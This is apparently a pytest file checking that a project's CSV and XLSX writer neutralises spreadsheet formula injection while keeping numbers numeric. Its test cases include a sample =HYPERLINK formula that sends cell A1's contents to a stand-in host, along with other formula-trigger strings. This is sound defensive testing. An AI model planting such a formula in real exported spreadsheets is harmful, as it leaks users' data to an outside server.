"""The one CSV and XLSX writer: formula text kept inert, numbers kept numbers (table-driven)."""

import codecs
import csv
import io
import re
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from greenbm.paths import PROJECT_ROOT
from greenbm.spreadsheets import Sheet, csv_bytes, csv_cell, is_formula_text, xlsx_bytes
from tests.spreadsheet_check import live_csv_formulas, live_xlsx_formulas

HYPERLINK = '=HYPERLINK("http://x?d="&A1,"水泥")'

# (value, what the CSV cell holds); the XLSX cell holds the value itself, marked as text.
CASES = [
    # OWASP's starting characters: each is a formula, or a DDE call, to a spreadsheet.
    (HYPERLINK, "'" + HYPERLINK),
    ("=1+2", "'=1+2"),
    ("+1+2", "'+1+2"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
    ("\t=1+2", "'\t=1+2"),
    ("\r=1+2", "'\r=1+2"),
    ("-", "'-"),
    ("+86 851 8888 8888", "'+86 851 8888 8888"),
    ("=", "'="),
    # Text that is only a number is read as that number, never run.
    ("-3.5", "-3.5"),
    ("+3", "+3"),
    ("-1,234.5", "-1,234.5"),
    ("-1.2e+03", "-1.2e+03"),
    ("-.5", "-.5"),
    # Anything else is left as it is, including formula characters further in.
    ("水泥 =1+2", "水泥 =1+2"),
    ("'=1+2", "'=1+2"),
    ("", ""),
    ("—", "—"),
    ("GZGBM-2026-CEM-000101", "GZGBM-2026-CEM-000101"),
]


@pytest.mark.parametrize(("value", "written"), CASES)
def test_csv_cell(value, written):
    assert csv_cell(value) == written
    assert is_formula_text(value) == (written != value)


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (-5, -5),
        (2.5, 2.5),
        (Decimal("-120.50"), "-120.50"),
        (Decimal("1E+3"), "1000"),
        (None, None),
    ],
)
def test_numbers_stay_numbers_in_csv(value, written):
    assert csv_cell(value) == written


def test_csv_has_a_bom_crlf_and_no_live_formula():
    data = csv_bytes(["行", "=名称"], [[1, HYPERLINK], [-2, "水泥厂"], [Decimal("3.50"), "-3.5"]])
    assert data.startswith(codecs.BOM_UTF8)
    assert data.endswith(b"\r\n")
    assert live_csv_formulas(data) == []
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows == [
        ["行", "'=名称"],
        ["1", "'" + HYPERLINK],
        ["-2", "水泥厂"],
        ["3.50", "-3.5"],
    ]


def test_empty_csv_is_its_header():
    data = csv_bytes(["统一社会信用代码", "类别", "最低星级"], [])
    assert data == codecs.BOM_UTF8 + "统一社会信用代码,类别,最低星级\r\n".encode()


def test_xlsx_keeps_formula_text_as_marked_text():
    values = [value for value, _written in CASES]
    rows = [[n, value] for n, value in enumerate(values)]
    data = xlsx_bytes(Sheet("结果", rows, header=["行", "名称"]))
    assert live_xlsx_formulas(data) == []
    sheet = load_workbook(io.BytesIO(data)).active
    cells = [row[1] for row in sheet.iter_rows(min_row=2)]
    # openpyxl reads an empty text cell back as None.
    assert [cell.value for cell in cells] == [value or None for value in values]
    for cell, (value, written) in zip(cells, CASES, strict=True):
        assert cell.data_type == "s" or value == ""
        assert cell.quotePrefix == (written != value), value


def test_xlsx_sheets_header_widths_and_numbers():
    header = ["序号", "数量", "GWP", "文本"]
    data = xlsx_bytes(
        Sheet("清单" * 20, [[1, Decimal("120.5"), -3.5, "-3.5"]], header=header),
        Sheet("合规核查", [["项目", "=1+2（GZ-2026-001）"]], widths=(28, 90)),
    )
    book = load_workbook(io.BytesIO(data))
    assert book.sheetnames == [("清单" * 20)[:31], "合规核查"]
    lines, summary = book.worksheets
    assert lines.freeze_panes == "A2" and lines["A1"].font.b
    assert [c.value for c in lines[2]] == [1, 120.5, -3.5, "-3.5"]
    assert [c.data_type for c in lines[2]] == ["n", "n", "n", "s"]
    assert summary.freeze_panes is None and not summary["A1"].font.b
    assert summary.column_dimensions["A"].width == 28
    assert summary.column_dimensions["B"].width == 90
    assert summary["B1"].value == "=1+2（GZ-2026-001）" and summary["B1"].quotePrefix
    assert live_xlsx_formulas(data) == []


def test_every_spreadsheet_is_written_here():
    # A second writer would not neutralise formulas: the application has only this one.
    writers = re.compile(r"csv\.writer|DictWriter|Workbook\(|openpyxl\.Workbook")
    packages = [p.parent for p in PROJECT_ROOT.glob("*/__init__.py")]
    found = [
        str(path.relative_to(PROJECT_ROOT))
        for package in packages
        if package.name not in ("tests", "bench", "scripts", "migrations")
        for path in package.rglob("*.py")
        if writers.search(path.read_text(encoding="utf-8"))
    ]
    assert found == ["greenbm/spreadsheets.py"]
